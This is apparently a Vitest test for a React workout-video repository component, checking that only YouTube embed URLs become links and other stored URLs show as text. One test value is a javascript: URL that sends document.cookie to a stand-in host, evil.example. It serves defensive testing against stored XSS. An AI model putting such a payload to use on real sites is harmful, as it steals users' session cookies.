// @vitest-environment happy-dom
import { workoutContentUrl } from '@management-center/contract';
import { MantineProvider } from '@mantine/core';
import type { UseQueryResult } from '@tanstack/react-query';
import { cleanup, render, screen } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import type { RepositoryVideo } from '../workout-content.ts';
import { WorkoutRepository } from './WorkoutRepository.tsx';

afterEach(cleanup);

function video(documentId: string, url: string): RepositoryVideo {
  return { documentId, name: `Video ${documentId}`, url, lastUpdatedTimestamp: Date.UTC(2026, 11, 1) };
}

describe('the workout repository', () => {
  it('links a YouTube embed only, and shows any other link written to the collection as text', () => {
    const embed = workoutContentUrl('dQw4w9WgXcQ');
    const planted = "javascript:fetch('https://evil.example/?'+document.cookie)";
    const repository = { data: [video('a', embed), video('b', planted)] } as UseQueryResult<
      RepositoryVideo[]
    >;
    render(
      <MantineProvider env="test">
        <WorkoutRepository repository={repository} />
      </MantineProvider>,
    );
    expect(screen.getByRole('link', { name: embed }).getAttribute('href')).toBe(embed);
    expect(screen.queryByRole('link', { name: planted })).toBeNull();
    screen.getByText(`Not a YouTube embed link, not opened from here: ${planted}`);
  });
});
